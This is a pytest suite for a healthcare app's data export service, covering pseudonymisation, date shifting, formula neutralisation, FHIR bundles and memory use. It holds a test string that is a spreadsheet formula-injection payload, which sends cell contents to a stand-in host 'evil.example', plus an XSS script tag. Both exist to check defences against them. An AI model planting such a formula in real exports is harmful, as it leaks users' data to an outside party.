"""The export service: pseudonymisation, date shifting, formula neutralisation, the long and
wide shapes agreeing with each other and with the scoring engine, the data dictionary, the
FHIR Bundle, and memory that stays flat as the number of people grows.

The helpers at the top (:func:`store_response`, :func:`bulk_cohort`) are shared with the web
and CLI tests of the exports and the patient view.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import tracemalloc
import uuid
from collections.abc import Iterable
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import insert, select

from vaikuttavuus.bulk import analyze_after_bulk
from vaikuttavuus.domain.answers import canonical
from vaikuttavuus.domain.scoring import score_frame
from vaikuttavuus.extensions import db
from vaikuttavuus.models import (
    Answer,
    Arm,
    ClinicalMeasurement,
    CostItem,
    Enrolment,
    InstrumentVersion,
    Person,
    Pilot,
    Response,
    TimePoint,
)
from vaikuttavuus.security.tokens import keyed_hash
from vaikuttavuus.services import exports
from vaikuttavuus.services.definitions import current_instrument, instrument_spec

NOW = datetime.now(UTC).replace(microsecond=0)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "<script>alert('x')</script>"
IPSS = {"ipss1": 3, "ipss2": 4, "ipss3": 2, "ipss4": 3, "ipss5": 4, "ipss6": 1, "ipss7": 2}


# -- shared helpers -------------------------------------------------------------------------------


def store_response(
    enrolment: Any,
    time_point: str,
    instrument: str,
    answers: dict[str, Any],
    *,
    submitted_at: datetime | None = None,
    language: str = "fi",
    mode: str = "web",
    proxy: bool = False,
) -> Response:
    """A submitted response with its answers in canonical form (as the patient flow stores)."""
    version = current_instrument(db.session, instrument)
    spec = instrument_spec(version)
    tp = db.session.scalar(
        select(TimePoint).where(
            TimePoint.pilot_id == enrolment.pilot_id, TimePoint.code == time_point
        )
    )
    assert tp is not None
    response = Response(
        enrolment_id=enrolment.id,
        time_point_id=tp.id,
        instrument_version_id=version.id,
        instrument_code=instrument,
        status="submitted",
        language=language,
        mode=mode,
        proxy=proxy,
        idempotency_key=uuid.uuid4().hex,
        submitted_at=submitted_at or NOW,
    )
    for item_id, raw in answers.items():
        stored = canonical(spec, spec.item(item_id), raw)
        if stored is not None:
            response.answers.append(
                Answer(item_id=item_id, value=stored.value, value_num=stored.value_num)
            )
    db.session.add(response)
    db.session.commit()
    return response


def bulk_cohort(count: int, *, pilot_code: str = "bph", seed: int = 0, start: int = 0) -> list[int]:
    """``count`` people enrolled in the pilot, each with an IPSS baseline response (8 answers),
    inserted with bulk Core statements. Returns the enrolment ids."""
    rng = random.Random(seed)
    pilot = db.session.scalar(select(Pilot).where(Pilot.code == pilot_code))
    assert pilot is not None
    arms = db.session.scalars(select(Arm.id).where(Arm.pilot_id == pilot.id)).all()
    baseline = db.session.scalar(
        select(TimePoint.id).where(TimePoint.pilot_id == pilot.id, TimePoint.is_baseline)
    )
    version = current_instrument(db.session, "ipss")
    today = date.today()
    done: list[int] = []
    step = 2000
    for offset in range(0, count, step):
        size = min(step, count - offset)
        people = db.session.scalars(
            insert(Person).returning(Person.id, sort_by_parameter_order=True),
            [
                {
                    "pseudonym": f"B{start + offset + i:09d}",
                    "first_name": "Bulk",
                    "last_name": f"Person{start + offset + i}",
                    "birth_year": 1940 + rng.randrange(40),
                    "email": f"bulk{start + offset + i}@example.org",
                    "preferred_language": "fi",
                    "source": "import",
                    "created_at": NOW,
                }
                for i in range(size)
            ],
        ).all()
        enrolments = db.session.scalars(
            insert(Enrolment).returning(Enrolment.id, sort_by_parameter_order=True),
            [
                {
                    "person_id": person_id,
                    "pilot_id": pilot.id,
                    "arm_id": arms[i % len(arms)],
                    "index_date": today - timedelta(days=rng.randrange(400)),
                    "enrolled_on": today,
                    "status": "active",
                    "created_at": NOW,
                }
                for i, person_id in enumerate(people)
            ],
        ).all()
        responses = db.session.scalars(
            insert(Response).returning(Response.id, sort_by_parameter_order=True),
            [
                {
                    "enrolment_id": enrolment_id,
                    "time_point_id": baseline,
                    "instrument_version_id": version.id,
                    "instrument_code": "ipss",
                    "status": "submitted",
                    "language": "fi",
                    "mode": "web",
                    "idempotency_key": uuid.uuid4().hex,
                    "started_at": NOW,
                    "updated_at": NOW,
                    "submitted_at": NOW,
                }
                for enrolment_id in enrolments
            ],
        ).all()
        db.session.execute(
            insert(Answer),
            [
                {
                    "response_id": response_id,
                    "item_id": item,
                    "value": str(code),
                    "value_num": float(code),
                    "updated_at": NOW,
                }
                for response_id in responses
                for item, code in (
                    *((f"ipss{k}", rng.randrange(6)) for k in range(1, 8)),
                    ("ipss_qol", rng.randrange(7)),
                )
            ],
        )
        db.session.commit()
        done += enrolments
    # As the app's imports do: the export that follows is planned on the new row counts.
    for table in ("people", "enrolments", "responses", "answers"):
        analyze_after_bulk(db.session, table, count)
    db.session.commit()
    return done


def identity_code(n: int) -> str:
    """A valid (synthetic) Finnish personal identity code."""
    individual = f"{100 + n:03d}"
    check = "0123456789ABCDEFHJKLMNPRSTUVWXY"[int("010155" + individual) % 31]
    return f"010155-{individual}{check}"


def read_csv(chunks: Iterable[str]) -> list[dict[str, str]]:
    text = "".join(chunks)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def pilot_named(code: str) -> Pilot:
    pilot = db.session.scalar(select(Pilot).where(Pilot.code == code))
    assert pilot is not None
    return pilot


# -- a small cohort with every kind of value ------------------------------------------------------


@pytest.fixture
def cohort(app: Flask, enrol_patient: Any) -> dict[str, Any]:
    """Four BPH patients: answers at several time points (one free text with a formula and a
    script), a measurement with a correction, costs for two of them; one erased person."""
    today = date.today()
    people = [
        enrol_patient(
            arm="operating_room" if n % 2 == 0 else "outpatient_clinic",
            index_offset_days=-400 + n,
            first_name=f"Etunimi{n}",
            last_name=f"Sukunimi{n}",
            email=f"potilas{n}@example.org",
            phone=f"+35840000000{n}",
            postal_address=f"Katu {n}, 15100 Lahti",
            identity_code=identity_code(n),
        )
        for n in range(4)
    ]
    for n, enrolment in enumerate(people):
        answers = dict(IPSS, ipss1=n, ipss_qol=n % 7)
        store_response(enrolment, "baseline", "ipss", answers, submitted_at=NOW - timedelta(400))
        store_response(
            enrolment,
            "baseline",
            "eq5d5l",
            {"mo": 1 + n % 5, "sc": 1, "ua": 2, "pd": 1, "ad": 1, "vas": 60 + n},
            submitted_at=NOW - timedelta(400),
        )
        if n < 3:
            store_response(
                enrolment,
                "m3",
                "ipss",
                dict(IPSS, ipss1=0, ipss2=n),
                submitted_at=NOW - timedelta(300),
                mode="phone",
                proxy=True,
                language="sv",
            )
    store_response(
        people[0],
        "m3",
        "prem_bph",
        {"overall": 5, "improve": FORMULA, "comments": SCRIPT, "recommend": 3},
        submitted_at=NOW - timedelta(300),
    )
    first = ClinicalMeasurement(
        enrolment_id=people[0].id,
        measure_code="prostate_volume",
        value_num=55.0,
        unit="mL",
        measured_on=people[0].index_date - timedelta(days=20),
    )
    db.session.add(first)
    db.session.flush()
    corrected = ClinicalMeasurement(
        enrolment_id=people[0].id,
        measure_code="prostate_volume",
        value_num=65.0,
        unit="mL",
        measured_on=people[0].index_date - timedelta(days=20),
    )
    db.session.add(corrected)
    db.session.flush()
    first.superseded_by_id = corrected.id
    db.session.add(
        CostItem(
            enrolment_id=people[1].id,
            kind="direct",
            amount_eur=1234.5,
            price_year=2025,
            service_date=people[1].index_date + timedelta(days=1),
        )
    )
    erased = enrol_patient(index_offset_days=-10, last_name="Poistettu")
    store_response(erased, "baseline", "ipss", IPSS)
    erased.person.erased_at = NOW
    db.session.commit()
    return {"people": people, "erased": erased, "today": today}


def _long(pilot: Pilot, options: exports.ExportOptions | None = None) -> list[dict[str, str]]:
    options = options or exports.ExportOptions()
    return read_csv(
        exports.csv_stream(exports.long_header(), exports.long_rows(db.session, pilot, options))
    )


def _wide(pilot: Pilot, options: exports.ExportOptions | None = None) -> list[dict[str, str]]:
    options = options or exports.ExportOptions()
    layout = exports.wide_layout(db.session, pilot)
    return read_csv(
        exports.csv_stream(layout.header, exports.wide_rows(db.session, pilot, layout, options))
    )


def _identifying_values() -> list[str]:
    rows = db.session.execute(
        select(
            Person.first_name,
            Person.last_name,
            Person.email,
            Person.phone,
            Person.postal_address,
            Person.identity_hash,
            Person.pseudonym,
        )
    ).all()
    return [value for row in rows for value in row if value]


# -- pseudonymisation -----------------------------------------------------------------------------


def test_people_appear_only_under_their_keyed_hash(cohort: dict[str, Any]) -> None:
    pilot = pilot_named("bph")
    long_rows = _long(pilot)
    wide_rows = _wide(pilot)
    expected = {keyed_hash(str(e.person_id), "export") for e in cohort["people"]}
    assert {row["person_key"] for row in long_rows} == expected
    assert {row["person_key"] for row in wide_rows} == expected
    assert all(re.fullmatch(r"[0-9a-f]{64}", key) for key in expected)
    erased_key = keyed_hash(str(cohort["erased"].person_id), "export")
    text = json.dumps([long_rows, wide_rows], ensure_ascii=False)
    assert erased_key not in text
    for value in _identifying_values():
        assert value not in text, value
    for column in ("pseudonym", "first_name", "last_name", "email", "phone", "identity_hash"):
        assert column not in long_rows[0] and column not in wide_rows[0]


def test_a_different_key_gives_different_person_keys(app: Flask, cohort: dict[str, Any]) -> None:
    before = {row["person_key"] for row in _long(pilot_named("bph"))}
    app.config["PSEUDONYM_KEY"] = "another-installation-key"
    after = {row["person_key"] for row in _long(pilot_named("bph"))}
    assert before.isdisjoint(after) and len(after) == 4


# -- date shifting --------------------------------------------------------------------------------


def test_date_shift_is_one_offset_per_person_within_the_limit(cohort: dict[str, Any]) -> None:
    pilot = pilot_named("bph")
    plain_long = _long(pilot)
    plain_wide = {row["person_key"]: row for row in _wide(pilot)}
    days = 30
    shifted_long = _long(pilot, exports.ExportOptions(date_shift_days=days))
    shifted_wide = {
        row["person_key"]: row for row in _wide(pilot, exports.ExportOptions(date_shift_days=days))
    }
    offsets: dict[str, set[int]] = {}
    for plain, shifted in zip(plain_long, shifted_long, strict=True):
        assert plain["person_key"] == shifted["person_key"]
        delta = date.fromisoformat(shifted["submitted_date"]) - date.fromisoformat(
            plain["submitted_date"]
        )
        offsets.setdefault(plain["person_key"], set()).add(delta.days)
    for key, row in plain_wide.items():
        delta = date.fromisoformat(shifted_wide[key]["index_date"]) - date.fromisoformat(
            row["index_date"]
        )
        offsets[key].add(delta.days)
    assert all(len(found) == 1 for found in offsets.values()), offsets
    values = [next(iter(found)) for found in offsets.values()]
    assert all(-days <= value <= days for value in values)
    for person in cohort["people"]:
        assert exports.date_offset(person.person_id, days) in values
    # The same offsets on every run, and across many people they cover the range.
    assert _long(pilot, exports.ExportOptions(date_shift_days=days)) == shifted_long
    many = [exports.date_offset(person_id, 3) for person_id in range(1, 400)]
    assert set(many) == {-3, -2, -1, 0, 1, 2, 3}
    assert exports.date_offset(1, 0) == 0


def test_options_are_validated() -> None:
    assert exports.parse_options({}) == exports.ExportOptions()
    parsed = exports.parse_options({"date_shift": "14", "from": "2025-01-01", "to": "2025-12-31"})
    assert parsed == exports.ExportOptions(14, date(2025, 1, 1), date(2025, 12, 31))
    for bad in (
        {"date_shift": "-1"},
        {"date_shift": "366"},
        {"date_shift": "1e3"},
        {"date_shift": "٣"},
        {"from": "1.1.2025"},
        {"to": "2025-13-01"},
        {"from": "2025-02-01", "to": "2025-01-01"},
    ):
        with pytest.raises(exports.ExportOptionsError):
            exports.parse_options(bad)


def test_period_selects_enrolments_by_index_date(cohort: dict[str, Any]) -> None:
    pilot = pilot_named("bph")
    chosen = cohort["people"][2]
    options = exports.ExportOptions(start=chosen.index_date, end=chosen.index_date)
    keys = {row["person_key"] for row in _long(pilot, options)}
    assert keys == {keyed_hash(str(chosen.person_id), "export")}
    assert exports.count_rows(db.session, pilot, "wide", options) == 1


# -- formula neutralisation -----------------------------------------------------------------------


def test_formulas_in_free_text_are_neutralised(cohort: dict[str, Any]) -> None:
    rows = _long(pilot_named("bph"))
    improve = next(row for row in rows if row["item_id"] == "improve")
    assert improve["value"] == "'" + FORMULA
    comments = next(row for row in rows if row["item_id"] == "comments")
    assert comments["value"] == SCRIPT
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), value
            if value.startswith("-"):
                float(value)  # only numbers may start with a minus sign
    assert exports.neutralise("+1 555") == "'+1 555"
    assert exports.neutralise("  =1+1") == "'  =1+1"
    assert exports.neutralise("\tx") == "'\tx"
    assert exports.neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert exports.neutralise(-0.285) == -0.285


def test_xlsx_cells_are_text_never_formulas(cohort: dict[str, Any], tmp_path: Path) -> None:
    pilot = pilot_named("bph")
    options = exports.ExportOptions()
    path = tmp_path / "long.xlsx"
    entries = exports.dictionary(db.session, pilot, "long", options, "en")
    counts = exports.write_xlsx(
        path,
        [
            ("data", exports.long_header(), exports.long_rows(db.session, pilot, options)),
            ("dictionary", exports.DICTIONARY_COLUMNS, [e.cells() for e in entries]),
            ("odd", ["a"], [["=1+1"], ["#N/A"], ["x\x00y\x07z"], [-0.5], [date(2025, 1, 2)]]),
        ],
    )
    assert counts["data"] == exports.count_rows(db.session, pilot, "long", options)
    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip(" ").startswith(("=", "+", "-", "@", "\t"))
    odd = [row[0].value for row in workbook["odd"].iter_rows(min_row=2)]
    assert odd[:3] == ["'=1+1", "#N/A", "xyz"]
    assert workbook["odd"]["A3"].data_type == "s"
    assert odd[3] == -0.5
    values = [cell.value for cell in next(workbook["data"].iter_rows(max_row=1))]
    assert values == list(exports.LONG_COLUMNS)
    improve = [row for row in workbook["data"].iter_rows(values_only=True) if row[5] == "improve"]
    assert improve[0][6] == "'" + FORMULA


# -- the shapes agree with each other and with the scoring engine ---------------------------------


def _rescored_from_long(rows: list[dict[str, str]]) -> dict[str, float | str | None]:
    """Every wide score column recomputed from the long answers with the scoring engine."""
    frame = pd.DataFrame(rows)
    result: dict[str, float | str | None] = {}
    for (key, time_point, instrument, version), group in frame.groupby(
        ["person_key", "time_point", "instrument", "version"]
    ):
        stored = db.session.scalar(
            select(InstrumentVersion).where(
                InstrumentVersion.code == instrument, InstrumentVersion.version == version
            )
        )
        assert stored is not None
        spec = instrument_spec(stored)
        numbers = {
            row["item_id"]: float(row["value_num"]) if row["value_num"] else float("nan")
            for _, row in group.iterrows()
        }
        wide = pd.DataFrame([numbers]).reindex(columns=list(spec.item_ids)).astype("float64")
        scores = score_frame(spec, wide).iloc[0]
        for name, value in scores.items():
            column = f"{key}|{instrument}_{name}_{time_point}"
            if value is pd.NA or (isinstance(value, float) and pd.isna(value)):
                result[column] = None
            elif isinstance(value, bool | np.bool_):
                result[column] = 1.0 if value else 0.0
            elif isinstance(value, str):
                result[column] = value
            else:
                result[column] = float(value)
        first = group.iloc[0]
        result[f"{key}|{instrument}_mode_{time_point}"] = first["mode"]
        result[f"{key}|{instrument}_proxy_{time_point}"] = float(first["proxy"])
    return result


def test_wide_scores_equal_scores_recomputed_from_long_answers(cohort: dict[str, Any]) -> None:
    pilot = pilot_named("bph")
    long_rows = _long(pilot)
    expected = _rescored_from_long(long_rows)
    layout = exports.wide_layout(db.session, pilot)
    wide_rows = _wide(pilot)
    assert (
        len(wide_rows)
        == 4
        == exports.count_rows(db.session, pilot, "wide", exports.ExportOptions())
    )
    assert len(long_rows) == exports.count_rows(db.session, pilot, "long", exports.ExportOptions())
    compared = 0
    for row in wide_rows:
        for column in layout.scores:
            cell = row[column.name]
            want = expected.get(f"{row['person_key']}|{column.name}")
            if want is None:
                assert cell == "", (column.name, cell)
                continue
            compared += 1
            if isinstance(want, str):
                assert cell == want
            elif column.kind in {"flag", "proxy"}:
                assert float(cell) == want
            else:
                assert float(cell) == pytest.approx(want, abs=1e-12), column.name
    assert compared > 40
    # Known values: patient 0's baseline IPSS total and EQ-5D index (England 2018: 11111 minus
    # usual activities level 2 → 1 − 0.050).
    first = next(
        r
        for r in wide_rows
        if r["person_key"] == keyed_hash(str(cohort["people"][0].person_id), "export")
    )
    assert float(first["ipss_total_baseline"]) == 0 + 4 + 2 + 3 + 4 + 1 + 2
    assert float(first["eq5d5l_index_baseline"]) == pytest.approx(0.95)
    assert first["ipss_band_baseline"] == "moderate"
    assert first["prem_bph_detractor_m3"] == "1"
    assert first["ipss_total_m12"] == ""


def test_wide_has_covariates_and_costs(cohort: dict[str, Any]) -> None:
    pilot = pilot_named("bph")
    rows = {row["person_key"]: row for row in _wide(pilot)}
    people = cohort["people"]
    key = [keyed_hash(str(e.person_id), "export") for e in people]
    assert float(rows[key[0]]["prostate_volume_baseline"]) == 65.0  # the corrected value
    assert rows[key[1]]["prostate_volume_baseline"] == ""
    assert int(rows[key[0]]["age_at_index"]) == people[0].index_date.year - 1955
    assert float(rows[key[1]]["cost_total_eur"]) == pytest.approx(1234.5, rel=0.05)
    assert float(rows[key[0]]["cost_total_eur"]) == 0.0
    assert rows[key[0]]["arm"] == "operating_room" and rows[key[1]]["arm"] == "outpatient_clinic"
    assert rows[key[0]]["status"] == "active"


def test_dictionary_describes_every_column(cohort: dict[str, Any]) -> None:
    pilot = pilot_named("bph")
    options = exports.ExportOptions(date_shift_days=7)
    for shape in exports.SHAPES:
        entries = exports.dictionary(db.session, pilot, shape, options, "en")
        header = (
            exports.long_header()
            if shape == "long"
            else exports.wide_layout(db.session, pilot).header
        )
        described = [entry.column for entry in entries if not entry.column.startswith("item_id =")]
        assert described == header
        assert all(entry.description for entry in entries)
        dated = next(e for e in entries if e.column in {"submitted_date", "index_date"})
        assert "7 days" in dated.description
    items = [
        e
        for e in exports.dictionary(db.session, pilot, "long", options, "en")
        if e.column.startswith("item_id =")
    ]
    ipss1 = next(e for e in items if e.column == "item_id = ipss1")
    assert ipss1.type == "ipss@1: single_choice" and "0 = " in ipss1.codes


def test_long_rows_follow_the_schedule_and_questionnaire_order(cohort: dict[str, Any]) -> None:
    rows = _long(pilot_named("bph"))
    key = keyed_hash(str(cohort["people"][0].person_id), "export")
    mine = [
        (r["time_point"], r["instrument"], r["item_id"]) for r in rows if r["person_key"] == key
    ]
    assert mine[:8] == [("baseline", "ipss", f"ipss{k}") for k in range(1, 8)] + [
        ("baseline", "ipss", "ipss_qol")
    ]
    assert mine[8][1] == "eq5d5l"
    assert [tp for tp, _, _ in mine] == sorted(
        (tp for tp, _, _ in mine), key=["baseline", "m3", "m12"].index
    )
    m3 = next(r for r in rows if r["person_key"] == key and r["time_point"] == "m3")
    assert (m3["mode"], m3["proxy"], m3["language"], m3["version"]) == ("phone", "1", "sv", "1")
    baseline = next(r for r in rows if r["person_key"] == key and r["time_point"] == "baseline")
    assert (baseline["mode"], baseline["proxy"]) == ("web", "0")


# -- FHIR -----------------------------------------------------------------------------------------


def test_fhir_bundle_validates_and_is_pseudonymised(cohort: dict[str, Any]) -> None:
    from fhir.resources.R4B.bundle import Bundle

    pilot = pilot_named("bph")
    options = exports.ExportOptions(date_shift_days=10)
    text = "".join(exports.fhir_bundle(db.session, pilot, options))
    data = json.loads(text)
    bundle = Bundle.model_validate(data)
    assert bundle.type == "collection"
    count = exports.count_rows(db.session, pilot, "fhir", options)
    assert len(data["entry"]) == count == 4 * 2 + 3 + 1
    subjects = {entry["resource"]["subject"]["reference"] for entry in data["entry"]}
    assert subjects == {
        f"Patient/{keyed_hash(str(e.person_id), 'export')}" for e in cohort["people"]
    }
    for value in _identifying_values():
        assert value not in text
    assert len({entry["fullUrl"] for entry in data["entry"]}) == count
    prem = next(
        e["resource"] for e in data["entry"] if "prem_bph" in e["resource"]["questionnaire"]
    )
    answers = {
        item["linkId"]: item["answer"][0] for group in prem["item"] for item in group["item"]
    }
    assert answers["improve"] == {"valueString": FORMULA}  # JSON is not a spreadsheet
    extensions = {e["url"].rsplit("/", 1)[-1]: e for e in prem["extension"]}
    assert extensions["time-point"]["valueCode"] == "m3"
    assert extensions["response-mode"]["valueCode"] == "web"
    assert extensions["response-proxy"]["valueBoolean"] is False
    person = cohort["people"][0]
    authored = datetime.fromisoformat(prem["authored"])
    shift = exports.date_offset(person.person_id, 10)
    assert authored == (NOW - timedelta(300)) + timedelta(days=shift)
    empty = json.loads(
        "".join(exports.fhir_bundle(db.session, pilot_named("older-adults"), options))
    )
    assert "entry" not in empty
    Bundle.model_validate(empty)


# -- memory stays flat ----------------------------------------------------------------------------


SCALE = [int(n) for n in os.environ.get("VAIKUTTAVUUS_EXPORT_SCALE", "500,5000").split(",")]
"""People counts: bounded for scripts/test; scripts/bench runs 2000,20000."""


def _peak(work: Any) -> tuple[int, Any]:
    tracemalloc.start()
    try:
        result = work()
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, result


def _drain_long_csv(pilot: Pilot) -> int:
    size = 0
    for text in exports.csv_stream(
        exports.long_header(), exports.long_rows(db.session, pilot, exports.ExportOptions(7))
    ):
        size += len(text)
    return size


def _wide_xlsx(pilot: Pilot, path: Path) -> int:
    layout = exports.wide_layout(db.session, pilot)
    rows = exports.wide_rows(db.session, pilot, layout, exports.ExportOptions())
    return exports.write_xlsx(path, [("data", layout.header, rows)])["data"]


@pytest.mark.slow
def test_export_memory_stays_flat_as_people_grow(
    app: Flask, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    small, large = SCALE
    # Several chunks even in the small cohort, so both sizes measure the steady state
    # (the production chunk of 1 000 enrolments from 2 000 people up).
    monkeypatch.setattr(exports, "CHUNK_SIZE", min(exports.CHUNK_SIZE, small // 2))
    pilot = pilot_named("bph")
    bulk_cohort(small)
    _drain_long_csv(pilot)  # warm up: imports, compiled statements, caches
    _wide_xlsx(pilot, tmp_path / "warm.xlsx")
    peaks: dict[str, list[int]] = {"long_csv": [], "wide_xlsx": []}
    sizes = []
    for people in (small, large):
        if people == large:
            bulk_cohort(large - small, seed=1, start=small)
        db.session.expire_all()
        peak, size = _peak(lambda: _drain_long_csv(pilot))
        peaks["long_csv"].append(peak)
        sizes.append(size)
        target = tmp_path / f"wide-{people}.xlsx"
        peak, rows = _peak(lambda target=target: _wide_xlsx(pilot, target))
        peaks["wide_xlsx"].append(peak)
        assert rows == people
    assert sizes[1] > 8 * sizes[0]  # ten times the people, ten times the bytes
    report = {name: [round(p / 2**20, 2) for p in values] for name, values in peaks.items()}
    print(f"export peak MiB for {small} vs {large} people: {report}")
    for name, (peak_small, peak_large) in peaks.items():
        # Ten times the data; a flat export stays well under twice the memory.
        assert peak_large < 2.0 * peak_small, (name, report)
